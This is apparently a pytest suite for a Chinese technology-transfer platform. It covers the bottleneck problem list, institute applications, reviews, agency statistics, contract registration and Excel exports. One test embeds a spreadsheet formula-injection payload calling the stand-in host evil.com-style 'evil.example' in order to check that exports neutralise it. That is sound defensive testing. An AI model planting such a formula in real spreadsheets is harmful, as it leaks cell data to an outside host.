"""The bottleneck list, 揭榜 applications, agencies and contract registration, as users see them."""

import io
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import func, select

from matchmaker.challenges import (
    agencies,
    applications,
    bottlenecks,
    figures,
    registration,
    support,
)
from matchmaker.challenges.models import (
    BottleneckEvent,
    BrokerProfile,
    ChallengeApplication,
    ContractRegistration,
)
from matchmaker.core.exceptions import Conflict, Forbidden, ServiceError
from matchmaker.core.extensions import db
from matchmaker.pairs import transitions as pair_service
from matchmaker.pairs.models import Contract, Suggestion

FIELD = "机器人与智能制造"


@pytest.fixture
def people(make_user, make_org):
    staff = make_user("staff")
    company = make_user("enterprise")
    first = make_user("institute")
    second = make_user("institute")
    broker = make_user("broker")
    from matchmaker.listings.taxonomy import field_by_name

    broker.fields = [field_by_name(FIELD)]
    db.session.commit()
    return {"staff": staff, "company": company, "first": first, "second": second, "broker": broker}


@pytest.fixture
def problem(people, make_need):
    """A published 卡脖子 need of the company, accepted into the list, classified and published."""
    need = make_need(
        title="大型铸件内部缺陷的无损检测",
        description="重型铸件内部缩孔、裂纹需要在线检测，现有射线检测效率低。",
        organization=people["company"].organization,
        is_bottleneck=True,
        deadline=date.today() + timedelta(days=90),
    )
    staff = people["staff"].id
    entry = bottlenecks.screen(need.id, staff, "accept")
    bottlenecks.classify(
        entry.id,
        staff,
        {"field_id": need.fields[0].id, "category": "检验检测", "difficulty": "较难"},
    )
    bottlenecks.publish(staff)
    return entry


def _apply(user, entry, achievement, **overrides):
    raw = {
        "approach": "采用相控阵超声与全聚焦成像结合的在线检测方案，配合自动扫查机构。",
        "team": "负责人王教授，成员6人",
        "milestones": "2027-03-01 样机\n2027-09-01 现场验证",
        "budget_asked": "120",
        "achievement_ids": [achievement.id],
    }
    raw.update(overrides)
    return applications.apply(entry.id, user.id, raw)


def _achievement(make_achievement, user, title="相控阵超声检测系统"):
    return make_achievement(
        title=title,
        description="相控阵超声探伤，适用于大型铸锻件内部缺陷检测。",
        organization=user.organization,
    )


def test_flagged_need_is_screened_into_a_numbered_published_list(people, problem, client):
    assert problem.status == "listed" and problem.number == 1
    rows = bottlenecks.public_rows()
    assert [r["title"] for r in rows] == ["大型铸件内部缺陷的无损检测"]
    page = client.get("/challenges/").get_data(as_text=True)
    assert "大型铸件内部缺陷的无损检测" in page and "第1版" in page
    api = client.get("/api/v1/challenges").get_json()
    assert api["version"] == 1 and api["items"][0]["category"] == "检验检测"
    company_notes = people["company"].organization.users[0]
    assert company_notes is not None


def test_list_export_has_the_columns_the_page_shows(problem, client):
    page = client.get("/challenges/").get_data(as_text=True)
    data = client.get("/challenges/list.xlsx")
    assert data.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(data.data)).active
    header = [c.value for c in sheet[1]]
    assert header == [
        "编号",
        "问题名称",
        "提出单位",
        "技术领域",
        "类别",
        "难度",
        "预计投入（万元）",
        "截止日期",
    ]
    for label in header:
        assert f"<th>{label}</th>" in page
    assert sheet.cell(2, 2).value == "大型铸件内部缺陷的无损检测"


def test_list_export_neutralises_formulas(people, make_need):
    need = make_need(
        title='=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        organization=people["company"].organization,
        is_bottleneck=True,
    )
    entry = bottlenecks.screen(need.id, people["staff"].id, "accept")
    bottlenecks.classify(
        entry.id,
        people["staff"].id,
        {"field_id": need.fields[0].id, "category": "其他", "difficulty": "一般"},
    )
    bottlenecks.publish(people["staff"].id)
    from matchmaker.challenges.exports import list_xlsx

    sheet = openpyxl.load_workbook(io.BytesIO(list_xlsx(bottlenecks.public_rows()))).active
    assert sheet.cell(2, 2).value.startswith("'=")


def test_screening_refuses_bad_input_with_field_messages(people, make_need, problem):
    other = make_need(organization=people["company"].organization, is_bottleneck=True)
    with pytest.raises(ServiceError) as e:
        bottlenecks.screen(other.id, people["staff"].id, "return", reason="")
    assert "reason" in e.value.errors
    with pytest.raises(ServiceError) as e:
        bottlenecks.screen(other.id, people["staff"].id, "merge", reason="同类", merge_into="abc")
    assert "merge_into" in e.value.errors
    with pytest.raises(Forbidden):
        bottlenecks.screen(other.id, people["broker"].id, "accept")
    merged = bottlenecks.screen(other.id, people["staff"].id, "merge", "同类问题", problem.id)
    assert merged.status == "merged" and merged.number is None
    with pytest.raises(Conflict):
        bottlenecks.screen(other.id, people["staff"].id, "accept")


def test_unclassified_problems_block_publishing(people, make_need):
    need = make_need(organization=people["company"].organization, is_bottleneck=True)
    bottlenecks.screen(need.id, people["staff"].id, "accept")
    with pytest.raises(ServiceError, match="尚未分类"):
        bottlenecks.publish(people["staff"].id)


def test_withdrawn_or_expired_need_leaves_the_list_and_history_says_why(
    people, problem, client, login
):
    from matchmaker.listings import posting as listings

    listings.withdraw_listing("need", problem.need_id, people["company"].id)
    db.session.refresh(problem)
    assert problem.status == "removed" and problem.reason == "withdrawn"
    events = db.session.scalars(
        select(BottleneckEvent).where(BottleneckEvent.entry_id == problem.id)
    ).all()
    assert events[-1].kind == "removed" and "需求撤回" in events[-1].note
    assert bottlenecks.public_rows() == []
    assert client.get(f"/challenges/entries/{problem.id}").status_code == 404
    login(people["staff"])
    staff_page = client.get(f"/challenges/entries/{problem.id}").get_data(as_text=True)
    assert "需求撤回" in staff_page


def test_expired_problem_leaves_the_list(people, problem):
    need = problem.need
    need.deadline = date.today() - timedelta(days=1)
    db.session.commit()
    assert bottlenecks.sync_with_needs() == 1
    assert problem.status == "removed" and problem.reason == "expired"


def test_two_institutes_apply_and_the_company_sees_them_side_by_side(
    people, problem, make_achievement, client, login
):
    a1 = _achievement(make_achievement, people["first"])
    a2 = _achievement(make_achievement, people["second"], "超声导波缺陷检测装置")
    first = _apply(people["first"], problem, a1)
    second = _apply(people["second"], problem, a2, budget_asked="80")
    with pytest.raises(Conflict):
        _apply(people["first"], problem, a1)
    login(people["company"])
    page = client.get(f"/challenges/entries/{problem.id}").get_data(as_text=True)
    assert page.count('data-application="') == 2
    assert first.lead_org.name in page and second.lead_org.name in page
    assert "匹配分" in page


def test_an_institute_never_sees_another_institutes_application(
    people, problem, make_achievement, client, login
):
    a1 = _achievement(make_achievement, people["first"])
    a2 = _achievement(make_achievement, people["second"], "超声导波缺陷检测装置")
    first = _apply(people["first"], problem, a1)
    _apply(people["second"], problem, a2)
    login(people["second"])
    assert client.get(f"/challenges/applications/{first.id}").status_code == 403
    page = client.get(f"/challenges/entries/{problem.id}").get_data(as_text=True)
    assert first.lead_org.name not in page
    from matchmaker.accounts.users import issue_token

    token = issue_token(people["second"].login)
    api = client.get(
        f"/api/v1/challenge-applications/{first.id}", headers={"Authorization": f"Bearer {token}"}
    )
    assert api.status_code == 403
    listed = client.get(
        f"/api/v1/challenges/{problem.id}", headers={"Authorization": f"Bearer {token}"}
    ).get_json()
    assert [a["lead_organization"] for a in listed["applications"]] == [
        people["second"].organization.name
    ]
    assert client.get(f"/challenges/applications/{first.id}/attachments/1").status_code in (
        403,
        404,
    )


def test_application_input_errors_are_field_level_in_chinese(people, problem, make_achievement):
    foreign = make_achievement(organization=people["second"].organization)
    with pytest.raises(ServiceError) as e:
        applications.apply(
            problem.id,
            people["first"].id,
            {
                "approach": "短",
                "milestones": "明天 样机",
                "budget_asked": "-5",
                "achievement_ids": [foreign.id],
            },
        )
    errors = e.value.errors
    assert set(errors) >= {"approach", "team", "milestones", "budget_asked", "achievement_ids"}
    assert all(any("\u4e00" <= ch <= "\u9fff" for ch in msg) for msg in errors.values())
    with pytest.raises(Forbidden):
        applications.apply(problem.id, people["company"].id, {})


def test_api_application_answers_400_with_field_errors(people, problem, client):
    from matchmaker.accounts.users import issue_token

    token = issue_token(people["first"].login)
    response = client.post(
        f"/api/v1/challenges/{problem.id}/applications",
        json={"approach": 5},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert response.status_code == 400
    assert "approach" in response.get_json()["errors"]


def test_attachments_are_kept_and_served_to_the_team_only(
    people, problem, make_achievement, client, login
):
    a1 = _achievement(make_achievement, people["first"])
    application = applications.apply(
        problem.id,
        people["first"].id,
        {
            "approach": "采用相控阵超声与全聚焦成像结合的在线检测方案，配合自动扫查机构。",
            "team": "团队",
            "milestones": "2027-03-01 样机",
            "budget_asked": "10",
            "achievement_ids": [a1.id],
        },
        files=[("方案.pdf", b"%PDF-1.4 test")],
    )
    with pytest.raises(ServiceError) as e:
        applications.apply(problem.id, people["second"].id, {}, files=[("run.exe", b"MZ")])
    assert "attachments" in e.value.errors
    url = f"/challenges/applications/{application.id}/attachments/{application.attachments[0].id}"
    login(people["company"])
    response = client.get(url)
    assert response.status_code == 200 and response.data == b"%PDF-1.4 test"


def test_reviews_then_choice_make_a_recommended_pair_that_reaches_contract(
    people, problem, make_achievement
):
    a1 = _achievement(make_achievement, people["first"])
    a2 = _achievement(make_achievement, people["second"], "超声导波缺陷检测装置")
    first = _apply(people["first"], problem, a1)
    second = _apply(people["second"], problem, a2)
    staff = people["staff"].id
    with pytest.raises(ServiceError, match="专家"):
        applications.choose(first.id, staff)
    with pytest.raises(ServiceError) as e:
        applications.add_review(first.id, staff, {"expert_name": "李工", "score_0": "11"})
    assert "score_0" in e.value.errors
    applications.add_review(
        first.id,
        staff,
        {"expert_name": "李工", "score_0": "9", "score_1": "8", "score_2": "8", "score_3": "7"},
    )
    applications.choose(first.id, staff, "方案成熟")
    db.session.refresh(second)
    assert first.status == "chosen" and second.status == "not_chosen"
    pair = first.suggestion
    assert pair.state == "recommended" and pair.need_id == problem.need_id
    assert pair.achievement_id == a1.id
    with pytest.raises(Conflict):
        applications.choose(second.id, staff)
    broker = people["broker"].id
    pair_service.transition(pair.id, people["company"].id, "accepted")
    pair_service.transition(pair.id, people["first"].id, "accepted")
    for to in ("meeting_scheduled", "met", "intention"):
        pair_service.transition(
            pair.id,
            broker,
            to,
            meeting={
                "place": "铸造厂会议室",
                "starts_at": f"{date.today() + timedelta(days=3)} 10:00",
            },
        )
    pair_service.transition(
        pair.id,
        broker,
        "contract",
        contract={"type": "技术开发", "amount": "300", "signed_on": date.today().isoformat()},
    )
    numbers = figures.list_figures()
    assert numbers["list_contracts"] == 1
    assert numbers["list_contract_value"] == Decimal("300.00")
    assert numbers["chosen"] == db.session.scalar(
        select(func.count(ChallengeApplication.id)).where(ChallengeApplication.status == "chosen")
    )
    stage = support.add_stage(first.id, staff, {"name": "首期", "amount": "50"})
    support.release_stage(stage.id, staff)
    assert support.support_totals(first) == {
        "granted": Decimal("50.00"),
        "released": Decimal("50.00"),
    }


def test_dashboard_counts_agencies_brokers_and_contracts_as_the_database_holds(
    people, make_org, make_need, make_achievement, client, login
):
    national = make_org(kind="agency", name="沈阳技术转移中心")
    municipal = make_org(kind="agency", name="浑南科技服务中心")
    staff = people["staff"].id
    agencies.set_agency(national.id, staff, "national", "2020-05-01")
    agencies.set_agency(municipal.id, staff, "municipal", None)
    agencies.set_broker(
        people["broker"].id,
        staff,
        {
            "agency_id": national.id,
            "certificate_no": "JJR-2026-001",
            "certified_on": date.today().isoformat(),
        },
    )
    agencies.add_training(
        people["broker"].id,
        staff,
        {"course": "技术合同登记实务", "hours": "16", "taken_on": "2026-03-01"},
    )
    agencies.set_target(staff, date.today().year, 300)
    need = make_need(organization=people["company"].organization)
    achievement = make_achievement(organization=people["first"].organization)
    pair = Suggestion(
        need=need,
        achievement=achievement,
        score=0.5,
        state="contract",
        need_answer="interested",
        achievement_answer="interested",
        broker_id=people["broker"].id,
    )
    db.session.add(pair)
    db.session.flush()
    db.session.add(
        Contract(
            suggestion_id=pair.id,
            contract_type="技术转让",
            amount=Decimal("88.5"),
            signed_on=date.today(),
        )
    )
    db.session.commit()
    levels = {r["level"]: r["agencies"] for r in figures.agency_levels()}
    assert levels["national"] == 1 and levels["municipal"] == 1 and levels["provincial"] == 0
    per = {r["agency"]: r for r in figures.per_agency()}
    assert per["沈阳技术转移中心"]["contracts"] == 1
    assert per["沈阳技术转移中心"]["contract_value"] == Decimal("88.50")
    assert per["沈阳技术转移中心"]["brokers"] == db.session.scalar(
        select(func.count(BrokerProfile.user_id)).where(BrokerProfile.agency_id == national.id)
    )
    cert = figures.certification()
    assert cert["certified"] == 1 and cert["target"] == 300
    login(people["staff"])
    page = client.get("/dashboard/").get_data(as_text=True)
    assert "国家级示范机构" in page and "沈阳技术转移中心" in page and "/ 目标 300" in page


def test_contract_registration_computes_technical_turnover_and_exports(
    people, make_need, make_achievement, client, login
):
    need = make_need(organization=people["company"].organization)
    achievement = make_achievement(organization=people["first"].organization)
    pair = Suggestion(
        need=need,
        achievement=achievement,
        score=0.5,
        state="contract",
        need_answer="interested",
        achievement_answer="interested",
        broker_id=people["broker"].id,
    )
    db.session.add(pair)
    db.session.flush()
    contract = Contract(
        suggestion_id=pair.id,
        contract_type="技术转让",
        amount=Decimal("500"),
        signed_on=date.today(),
    )
    db.session.add(contract)
    db.session.commit()
    raw = registration.defaults(contract) | {
        "non_technical": "检测设备 120\n耗材 30.5",
        "expected_investment": "1000",
        "seller_region": "沈阳市",
        "buyer_region": "沈阳市",
    }
    with pytest.raises(ServiceError) as e:
        registration.register(contract.id, people["staff"].id, raw | {"non_technical": "设备 600"})
    assert "non_technical" in e.value.errors
    with pytest.raises(Forbidden):
        registration.register(contract.id, people["company"].id, raw)
    row = registration.register(contract.id, people["broker"].id, raw)
    assert row.technical_amount == Decimal("349.50")
    by_type = {r["type"]: r for r in figures.registrations_by_type()}
    assert by_type["技术转让"]["registrations"] == 1
    assert by_type["技术转让"]["technical_amount"] == Decimal("349.50")
    assert by_type["技术转让"]["total_amount"] == db.session.scalar(
        select(func.sum(ContractRegistration.total_amount))
    )
    login(people["staff"])
    sheet = openpyxl.load_workbook(
        io.BytesIO(client.get("/challenges/registrations.xlsx").data)
    ).active
    header = [c.value for c in sheet[1]]
    assert header[header.index("技术交易额（万元）")] == "技术交易额（万元）"
    assert sheet.cell(2, header.index("技术交易额（万元）") + 1).value == 349.5
    assert client.get("/challenges/registrations?from=abc").status_code == 400


def test_demo_seed_has_a_published_list_applications_and_agencies(app, runner):
    first = runner.invoke(args=["demo", "seed"])
    assert first.exit_code == 0, first.output
    assert len(bottlenecks.public_rows()) >= 10
    assert db.session.scalar(select(func.count(ChallengeApplication.id))) == 2
    levels = {r["level"]: r["agencies"] for r in figures.agency_levels()}
    assert levels["national"] >= 1 and levels["provincial"] >= 1 and levels["municipal"] >= 1
    per = figures.per_agency()
    assert sum(r["brokers"] for r in per) >= 3
    broker, profile, trainings = agencies.broker(
        db.session.scalar(select(BrokerProfile.user_id).limit(1))
    )
    assert profile.certificate_no and len(trainings) >= 3
    second = runner.invoke(args=["demo", "seed"])
    assert len(bottlenecks.public_rows()) >= 10
    assert db.session.scalar(select(func.count(ChallengeApplication.id))) == 2
    assert second.exit_code == 0
